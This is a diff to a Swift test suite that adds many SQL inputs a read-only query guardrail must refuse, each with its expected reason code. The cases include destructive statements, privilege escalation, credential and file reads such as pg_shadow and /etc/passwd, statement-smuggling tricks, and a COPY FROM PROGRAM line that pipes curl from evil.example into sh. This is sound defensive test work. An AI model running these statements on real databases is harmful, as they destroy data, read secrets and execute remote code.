@@ -33,7 +33,8 @@ import Testing
         #expect(throws: Never.self) { try Self.guardrail.check(sql) }
     }
 
-    @Test(arguments: [
+    /// Destructive or escaping statements, each with the reason the guard gives.
+    static let refused: [(String, String)] = [
         ("SELECT 1; SELECT 2", "not_one_statement"),
         ("", "not_one_statement"),
         ("SELEC 1", "syntax_error"),
@@ -74,7 +75,49 @@ import Testing
         ("SELECT ssn_last4 FROM employee", "object_not_allowed"),
         ("SELECT * FROM employee", "object_not_allowed"),
         ("SELECT * FROM unknown_table", "object_not_allowed"),
-    ])
+        ("DROP TABLE invoice", "not_read_only"),
+        ("DROP SCHEMA public CASCADE", "not_read_only"),
+        ("TRUNCATE invoice", "not_read_only"),
+        ("TRUNCATE TABLE invoice, track RESTART IDENTITY CASCADE", "not_read_only"),
+        ("INSERT INTO genre SELECT * FROM genre", "not_read_only"),
+        ("MERGE INTO genre g USING genre s ON g.genre_id = s.genre_id WHEN MATCHED THEN DELETE", "not_read_only"),
+        ("ALTER TABLE invoice ADD COLUMN x int", "not_read_only"),
+        ("CREATE TABLE stolen AS SELECT * FROM invoice", "not_read_only"),
+        ("CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql", "not_read_only"),
+        ("GRANT ALL ON invoice TO PUBLIC", "not_read_only"),
+        ("SET ROLE postgres", "not_read_only"),
+        ("SET SESSION AUTHORIZATION postgres", "not_read_only"),
+        ("RESET ALL", "not_read_only"),
+        ("VACUUM FULL invoice", "not_read_only"),
+        ("PREPARE wipe AS DELETE FROM invoice", "not_read_only"),
+        ("EXECUTE wipe", "not_read_only"),
+        ("NOTIFY channel, 'payload'", "not_read_only"),
+        ("COPY invoice FROM '/etc/passwd'", "not_read_only"),
+        ("COPY invoice FROM PROGRAM 'curl evil.example | sh'", "not_read_only"),
+        ("WITH a AS (SELECT 1), b AS (INSERT INTO genre VALUES (99, 'x') RETURNING *) SELECT * FROM a", "not_read_only"),
+        ("SELECT * FROM (WITH x AS (UPDATE invoice SET total = 0 RETURNING *) SELECT * FROM x) y", "not_read_only"),
+        ("SELECT * FROM invoice FOR NO KEY UPDATE", "not_read_only"),
+        ("SELECT * FROM invoice FOR KEY SHARE SKIP LOCKED", "not_read_only"),
+        ("SELECT 1; DROP TABLE invoice", "not_one_statement"),
+        ("SELECT 1 /* ; */; DELETE FROM invoice -- the rest", "not_one_statement"),
+        ("SELECT $$;$$; DROP TABLE invoice", "not_one_statement"),
+        ("SELECT $tag$ it's; fine $tag$; TRUNCATE invoice", "not_one_statement"),
+        ("SELECT 'a;b'; UPDATE invoice SET total = 0", "not_one_statement"),
+        ("SELECT pg_notify('channel', 'payload')", "function_not_allowed"),
+        ("SELECT lo_export(1234, '/tmp/out')", "function_not_allowed"),
+        ("SELECT pg_ls_dir('.')", "function_not_allowed"),
+        ("SELECT pg_reload_conf()", "function_not_allowed"),
+        ("SELECT dblink_exec('host=evil', 'DROP TABLE invoice')", "function_not_allowed"),
+        ("SELECT pg_catalog.pg_sleep(1)", "function_not_allowed"),
+        ("SELECT \"pg_sleep\"(1)", "function_not_allowed"),
+        ("SELECT setval('invoice_invoice_id_seq', 1)", "function_not_allowed"),
+        ("SELECT pg_advisory_xact_lock(1)", "function_not_allowed"),
+        ("SELECT xpath('/row', query_to_xml('DELETE FROM invoice', true, true, ''))", "function_not_allowed"),
+        ("SELECT * FROM invoice WHERE EXISTS (SELECT pg_cancel_backend(1))", "function_not_allowed"),
+        ("SELECT * FROM pg_catalog.pg_shadow", "object_not_allowed"),
+    ]
+
+    @Test(arguments: refused)
     func everythingElseIsRefusedWithAReason(_ sql: String, _ code: String) {
         let refusal = #expect(throws: QueryRefusal.self, "\(sql)") { try Self.guardrail.check(sql) }
         #expect(refusal?.code == code, "\(sql): \(refusal?.message ?? "")")
